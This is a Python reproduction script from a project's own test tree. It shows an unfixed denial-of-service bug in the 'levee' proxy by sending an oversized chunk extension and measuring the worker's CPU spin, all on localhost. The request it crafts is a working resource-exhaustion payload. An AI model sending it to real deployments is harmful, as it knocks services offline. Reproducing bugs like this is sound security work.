#!/usr/bin/env python3
"""Reproduces the open "stall" bug on the real binary (see docs/security.md).

    tests/fuzz/repro/stall_spin.py BUILD_DIR [EXTENSION_BYTES]

A chunked request whose first chunk extension is longer than the read
buffer (max_header_bytes + 16 KiB = 80 KiB by default) reaches levee while
the backend is slow to answer. Beast needs the whole chunk-size line in one
buffer; the buffer is full, prepare() returns no room, and the body loop
reads zero bytes, parses nothing, and goes round again: the worker spins
until the route's timeout. The script prints levee's CPU use over 5 s: a
few percent for a short extension, all the CPU the machine lets it have
for a long one. Ports 19565-19567.
"""
import socket, subprocess, sys, time, os, tempfile, threading
build = sys.argv[1]
ext = int(sys.argv[2]) if len(sys.argv) > 2 else 100000
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); srv.bind(("127.0.0.1", 19565)); srv.listen(16)
held = []
def accept():
    while True:
        c, _ = srv.accept(); held.append(c)   # reads nothing, answers nothing: a slow backend
threading.Thread(target=accept, daemon=True).start()
cfg = tempfile.NamedTemporaryFile("w", suffix=".yaml", delete=False)
cfg.write("""admin: {port: 19566}
workers: 1
access_log: {enabled: false}
listeners: [{port: 19567, routes: [{cluster: a, timeout: 20s}]}]
clusters: [{name: a, endpoints: ["127.0.0.1:19565"], concurrency: {enabled: false}}]
""")
cfg.close()
lv = subprocess.Popen([f"{build}/levee", "-c", cfg.name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(1.0)
def cpu():
    with open(f"/proc/{lv.pid}/stat") as f:
        v = f.read().rsplit(")", 1)[1].split()
    return (int(v[11]) + int(v[12])) / os.sysconf("SC_CLK_TCK")
s = socket.create_connection(("127.0.0.1", 19567))
s.sendall(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;" + b"e" * ext)
time.sleep(1)
c0, t0 = cpu(), time.monotonic()
time.sleep(5)
c1, t1 = cpu(), time.monotonic()
print(f"chunk extension of {ext} bytes: levee used {100 * (c1 - c0) / (t1 - t0):.0f}% of a core over 5 s (load {os.getloadavg()[0]:.1f})")
s.close(); lv.kill()
